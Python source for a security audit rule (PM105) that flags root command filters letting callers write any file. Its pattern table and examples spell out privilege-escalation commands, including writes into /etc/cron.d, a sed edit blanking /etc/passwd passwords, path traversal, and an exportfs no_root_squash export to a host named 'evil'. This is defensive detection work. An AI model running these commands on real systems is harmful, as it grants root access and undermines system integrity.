"""A command that writes any file.

``tee``, ``cp``, ``mv``, ``dd``, ``ln`` and their like put any content at any path: into
/etc/cron.d, /etc/sudoers.d or /root/.ssh. That is root. ``exportfs`` lets another host do it.

Instead: a pattern for the path (see PM208 for ``..``), or a generated entrypoint whose path is
held within its folder when the file is opened.
"""

from collections.abc import Iterator
from typing import Final

from privmigrate.audit.evidence import Evidence
from privmigrate.audit.finding import Found, Level
from privmigrate.audit.power import Gain, Way, open_ways
from privmigrate.audit.runnable import Place
from privmigrate.examples import Clean, Finds

CODE: Final = "PM105"
LEVEL: Final = Level.HIGH

WAYS: Final = (
    Way("tee", "/etc/cron.d/x", Gain.WRITE),
    Way("cp mv install", "/tmp/x /etc/cron.d/x", Gain.WRITE),
    Way("dd", "if=/tmp/x of=/etc/cron.d/x", Gain.WRITE, "of=/etc/cron.d/x"),
    Way("ln", "-f /tmp/x /etc/cron.d/x", Gain.WRITE, "/tmp/x /etc/cron.d/x"),
    Way("sed gsed", "-i 's/:x:/::/' /etc/passwd", Gain.WRITE, "-i /etc/passwd"),
    Way("sed gsed", "'1e /tmp/x' /etc/hosts", Gain.RUN),
    Way("touch", "/etc/cron.d/x", Gain.WRITE),
    Way("truncate", "-s 0 /etc/passwd", Gain.WRITE, "/etc/passwd"),
    Way("fallocate", "-l 1 /etc/cron.d/x", Gain.WRITE, "/etc/cron.d/x"),
    Way("mkdir mkfifo", "/etc/cron.d/x", Gain.WRITE),
    Way("mknod", "/etc/cron.d/x p", Gain.WRITE),
    Way("crudini augtool", "--set /etc/cron.d/x a b c", Gain.WRITE, "/etc/cron.d/x"),
    Way("patch", "/etc/cron.d/x /tmp/x", Gain.WRITE),
    Way("sort shuf", "-o /etc/cron.d/x /tmp/x", Gain.WRITE, "-o /etc/cron.d/x"),
    Way("split csplit", "/tmp/x /etc/cron.d/x", Gain.WRITE),
    Way("ed ex", "/etc/cron.d/x", Gain.WRITE),
    Way("vi vim nano emacs", "/etc/cron.d/x", Gain.WRITE),
    Way("xxd", "-r /tmp/x /etc/cron.d/x", Gain.WRITE),
    Way("qemu-img", "convert /tmp/x /etc/cron.d/x", Gain.WRITE, place=Place.FIRST),
    Way("rsync", "/tmp/x /etc/cron.d/x", Gain.WRITE),
    # exports(5): root of that host is root here
    Way("exportfs", "-o rw,no_root_squash evil:/etc", Gain.WRITE),
)

EXAMPLES: Final = (
    Finds(
        "any arguments",
        "[Filters]\nt: CommandFilter, tee, root\n",
        "2:1",
        "t writes any file as root: tee /etc/cron.d/x",
    ),
    Finds(
        "a pattern that any path fits",
        "[Filters]\nd: RegExpFilter, dd, root, dd, if=/dev/zero, of=/.*, bs=\\d+\n",
        "2:1",
        "d writes any file as root: dd if=/dev/zero of=/etc/cron.d/x ...",
    ),
    Finds(
        "out of a folder by two dots",
        "[Filters]\nt: RegExpFilter, tee, root, tee, /var/lib/x/.*\n",
        "2:1",
        "t writes any file as root: tee /var/lib/x/../../../../../../../../etc/cron.d/x",
    ),
    Finds(
        "an export to whom the caller names",
        "[Filters]\ne: CommandFilter, exportfs, root\n",
        "2:1",
        "e writes any file as root: exportfs -o rw,no_root_squash evil:/etc",
    ),
    Clean(
        "exports taken back", "[Filters]\ne: RegExpFilter, exportfs, root, exportfs, -u, .*:/.*\n"
    ),
    Clean(
        "one name in one folder", "[Filters]\nt: RegExpFilter, tee, root, tee, /var/lib/x/[^/]+\n"
    ),
    Clean("a path below a folder", "[Filters]\nt: PathFilter, tee, root, /var/lib/x/\n"),
)


def check(evidence: Evidence) -> Iterator[Found]:
    """Find the commands of callers into which one of the ways fits."""
    yield from open_ways(evidence, WAYS)
